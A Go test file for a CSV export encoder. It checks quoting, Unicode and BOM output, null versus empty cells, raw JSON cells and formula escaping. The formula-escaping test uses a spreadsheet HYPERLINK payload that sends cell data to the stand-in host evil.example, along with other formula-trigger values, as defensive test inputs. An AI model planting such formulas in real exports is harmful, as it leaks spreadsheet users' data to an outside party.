package encode

import (
	"bytes"
	"encoding/json"
	"math"
	"strings"
	"testing"

	"github.com/backstory-dev/backstory/internal/event"
)

// BUG-01: commas, quotes, CR, LF and CRLF inside values survive byte for
// byte; nothing is scrubbed.
func TestCSVLineBreaksAndQuotes(t *testing.T) {
	texts := []string{
		"Save, \"draft\"\nnow", "line1\r\nline2", "a\rb", "plain", " padded ",
	}
	var rows [][]any
	for i, s := range texts {
		rows = append(rows, []any{"e" + string(rune('1'+i)), s})
	}

	got := encodeAll(t, FormatCSV, strFields("event_id", "target_text"), rows,
		Options{})
	want := "event_id,target_text\n" +
		"e1,\"Save, \"\"draft\"\"\nnow\"\n" +
		"e2,\"line1\r\nline2\"\n" +
		"e3,\"a\rb\"\n" +
		"e4,plain\n" +
		"e5,\" padded \"\n"
	if string(got) != want {
		t.Fatalf("got\n%q\nwant\n%q", got, want)
	}

	records, err := parseCSV(got)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	if len(records) != 6 {
		t.Fatalf("got %d records, want 6", len(records))
	}
	for i, s := range texts {
		if cell := records[i+1][1]; cell == nil || *cell != s {
			t.Errorf("record %d: got %v, want %q", i+1, cell, s)
		}
	}
}

// BUG-02: formula cells get one apostrophe, header cells too; numbers,
// times and booleans are never touched; escaping is idempotent.
func TestCSVFormulaEscaping(t *testing.T) {
	fields := []Field{
		{Name: "event_id", Kind: event.KindString},
		{Name: "target_text", Kind: event.KindString},
		{Name: "props.coupon", Kind: event.KindString},
		{Name: "props.delta", Kind: event.KindInt},
	}
	coupon := `=HYPERLINK("http://evil.example/?d="&A1,"Claim")`
	rows := [][]any{
		{"e1", "Apply", coupon, nil},
		{"e2", "+SUM(1,2)", nil, nil},
		{"e3", "@cmd", nil, nil},
		{"e4", "-2+3", nil, nil},
		{"e5", "\t=1+1", nil, nil},
		{"e6", "\r=2", nil, nil},
		{"e7", "Adjust", nil, int64(-5)},
		{"e8", "'=already", nil, nil},
		{"e9", nil, nil, nil},
	}
	want := "event_id,target_text,props.coupon,props.delta\n" +
		`e1,Apply,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Claim"")",` +
		"\n" +
		"e2,\"'+SUM(1,2)\",,\n" +
		"e3,'@cmd,,\n" +
		"e4,'-2+3,,\n" +
		"e5,'\t=1+1,,\n" +
		"e6,\"'\r=2\",,\n" +
		"e7,Adjust,,-5\n" +
		"e8,'=already,,\n" +
		"e9,,,\n"

	got := encodeAll(t, FormatCSV, fields, rows, Options{EscapeFormulas: true})
	if string(got) != want {
		t.Fatalf("got\n%s\nwant\n%s", got, want)
	}

	t.Run("idempotent", func(t *testing.T) {
		records, err := parseCSV(got)
		if err != nil {
			t.Fatal(err)
		}
		var again [][]any
		for _, rec := range records[1:] {
			row := make([]any, len(rec))
			for i, c := range rec {
				if c != nil {
					row[i] = *c
				}
			}
			again = append(again, row)
		}
		// props.delta is now the string "-5" in a string column.
		fields := strFields("event_id", "target_text", "props.coupon",
			"props.delta")
		twice := encodeAll(t, FormatCSV, fields, again,
			Options{EscapeFormulas: true})
		twice = bytes.Replace(twice, []byte(",'-5\n"), []byte(",-5\n"), 1)
		if !bytes.Equal(twice, got) {
			t.Errorf("escaping twice changed the file:\n%q\nwant\n%q",
				twice, got)
		}
	})

	t.Run("off", func(t *testing.T) {
		got := encodeAll(t, FormatCSV, fields, rows[:2], Options{})
		want := "event_id,target_text,props.coupon,props.delta\n" +
			`e1,Apply,"=HYPERLINK(""http://evil.example/?d=""&A1,""Claim"")",` +
			"\ne2,\"+SUM(1,2)\",,\n"
		if string(got) != want {
			t.Errorf("got\n%s\nwant\n%s", got, want)
		}
	})

	cases := []struct {
		name  string
		field Field
		value any
		want  string
	}{
		{"header", Field{"@total", event.KindInt}, int64(1), "'@total\n1\n"},
		{"negative float", Field{"x", event.KindFloat}, -2.5, "x\n-2.5\n"},
		{"raw number", Field{"x", event.KindJSON}, []byte(`-5`), "x\n-5\n"},
		{"raw string", Field{"x", event.KindJSON},
			json.RawMessage(`"=1+1"`), "x\n'=1+1\n"},
		{"raw list", Field{"x", event.KindJSON},
			[]byte(`["=1"]`), "x\n\"[\"\"=1\"\"]\"\n"},
		{"plus header", Field{"+x", event.KindString}, "-", "'+x\n'-\n"},
		{"apostrophe", Field{"x", event.KindString}, "'", "x\n'\n"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := encodeAll(t, FormatCSV, []Field{tc.field},
				[][]any{{tc.value}}, Options{EscapeFormulas: true})
			if string(got) != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// BUG-03: non-ASCII text passes through unchanged; no BOM unless asked,
// and then exactly once.
func TestCSVUnicodeAndBOM(t *testing.T) {
	texts := []string{
		"Añadir al carrito 🛒", "数量を変更", "👩‍👩‍👧 family", "שלום עולם",
		"e\u0301",
	}
	var rows [][]any
	var want strings.Builder
	want.WriteString("event_id,target_text\n")
	for i, s := range texts {
		id := "e" + string(rune('1'+i))
		rows = append(rows, []any{id, s})
		want.WriteString(id + "," + s + "\n")
	}
	fields := strFields("event_id", "target_text")

	got := encodeAll(t, FormatCSV, fields, rows, Options{})
	if string(got) != want.String() {
		t.Fatalf("got %q, want %q", got, want.String())
	}

	checks := []struct {
		name string
		want []byte
	}{
		{"cart", []byte{0xf0, 0x9f, 0x9b, 0x92, '\n'}},
		{"family", []byte{0xf0, 0x9f, 0x91, 0xa9, 0xe2, 0x80, 0x8d, 0xf0,
			0x9f, 0x91, 0xa9, 0xe2, 0x80, 0x8d, 0xf0, 0x9f, 0x91, 0xa7}},
		{"combining", []byte{',', 0x65, 0xcc, 0x81, '\n'}},
	}
	for _, c := range checks {
		if !bytes.Contains(got, c.want) {
			t.Errorf("%s: bytes % x missing", c.name, c.want)
		}
	}
	if bytes.Contains(got, []byte("\ufffd")) {
		t.Error("output holds U+FFFD")
	}
	if bytes.HasPrefix(got, []byte(utf8BOM)) {
		t.Error("BOM written without being asked for")
	}

	t.Run("bom", func(t *testing.T) {
		got := encodeAll(t, FormatCSV, fields, rows, Options{BOM: true})
		if string(got) != utf8BOM+want.String() {
			t.Errorf("got %q, want BOM then the file", got)
		}
		if n := bytes.Count(got, []byte(utf8BOM)); n != 1 {
			t.Errorf("got %d BOMs, want 1", n)
		}
	})

	t.Run("bom empty", func(t *testing.T) {
		got := encodeAll(t, FormatCSV, fields, nil, Options{BOM: true})
		if want := utf8BOM + "event_id,target_text\n"; string(got) != want {
			t.Errorf("got %q, want %q", got, want)
		}
	})
}

// BUG-06: a missing value is an empty unquoted cell, "" is quoted, and
// zero and false are written.
func TestCSVNullVersusEmpty(t *testing.T) {
	fields := []Field{
		{Name: "user_id", Kind: event.KindString},
		{Name: "traits.plan", Kind: event.KindString},
		{Name: "traits.seats", Kind: event.KindInt},
		{Name: "traits.trial", Kind: event.KindJSON},
	}
	rows := [][]any{
		{"u-1", "", nil, nil},
		{"u-2", nil, nil, []byte("null")},
		{"u-3", nil, nil, nil},
		{"u-4", "free", int64(0), false},
	}
	want := "user_id,traits.plan,traits.seats,traits.trial\n" +
		"u-1,\"\",,\n" +
		"u-2,,,\n" +
		"u-3,,,\n" +
		"u-4,free,0,false\n"

	got := encodeAll(t, FormatCSV, fields, rows, Options{})
	if string(got) != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// BUG-07: raw JSON objects and lists are compact JSON text in a cell,
// never Go's map syntax.
func TestCSVRawJSON(t *testing.T) {
	fields := []Field{
		{Name: "event_id", Kind: event.KindString},
		{Name: "props.cart", Kind: event.KindJSON},
		{Name: "props.tags", Kind: event.KindJSON},
		{Name: "props.cart.total", Kind: event.KindFloat},
	}
	cart := `{ "items": [ {"qty": 2, "sku": "A1"}, {"qty": 1, "sku": "B7"} ],
		"total": 19.5 }`
	rows := [][]any{
		{"e1", json.RawMessage(cart), []byte(`["new","promo"]`), 19.5},
		{"e2", nil, nil, nil},
	}
	want := "event_id,props.cart,props.tags,props.cart.total\n" +
		`e1,"{""items"":[{""qty"":2,""sku"":""A1""},` +
		`{""qty"":1,""sku"":""B7""}],""total"":19.5}",` +
		`"[""new"",""promo""]",19.5` +
		"\ne2,,,\n"

	got := encodeAll(t, FormatCSV, fields, rows, Options{})
	if string(got) != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if bytes.Contains(got, []byte("map[")) {
		t.Error("output holds Go map syntax")
	}
}

// BUG-08: a column whose values have four types writes each one's JSON
// literal text; raw JSON and Go values agree.
func TestCSVMixedTypes(t *testing.T) {
	want := "event_id,props.qty\n" +
		"e1,2\ne2,2.5\ne3,3 items\ne4,true\ne5,\ne6,\ne7,0.1\n"
	cases := []struct {
		name   string
		values []any
	}{
		{"go values", []any{int64(2), 2.5, "3 items", true, nil, nil, 0.1}},
		{"raw json", []any{
			[]byte("2"), []byte("2.5"), []byte(`"3 items"`), []byte("true"),
			[]byte("null"), nil, []byte("0.1"),
		}},
		{"float two", []any{2.0, 2.5, "3 items", true, nil, nil, 0.1}},
		{"not finite", []any{int64(2), 2.5, "3 items", true, math.NaN(),
			math.Inf(-1), 0.1}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var rows [][]any
			for i, v := range tc.values {
				rows = append(rows, []any{"e" + string(rune('1'+i)), v})
			}
			fields := []Field{
				{Name: "event_id", Kind: event.KindString},
				{Name: "props.qty", Kind: event.KindJSON},
			}
			got := encodeAll(t, FormatCSV, fields, rows, Options{})
			if string(got) != want {
				t.Errorf("got\n%s\nwant\n%s", got, want)
			}
		})
	}
}

func TestCSVRejectsBadRows(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, FormatCSV, strFields("a", "b"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]any{"x"}); err == nil {
		t.Error("short row: got no error")
	}
	if err := w.Write([]any{"x", struct{}{}}); err == nil {
		t.Error("unsupported type: got no error")
	}
	if err := w.Write([]any{"x", []byte("{bad")}); err == nil {
		t.Error("invalid raw JSON: got no error")
	}
	if err := w.Write([]any{"ok", "1"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if want := "a,b\nok,1\n"; buf.String() != want {
		t.Errorf("got %q, want %q: a rejected row left bytes", buf.String(),
			want)
	}
}
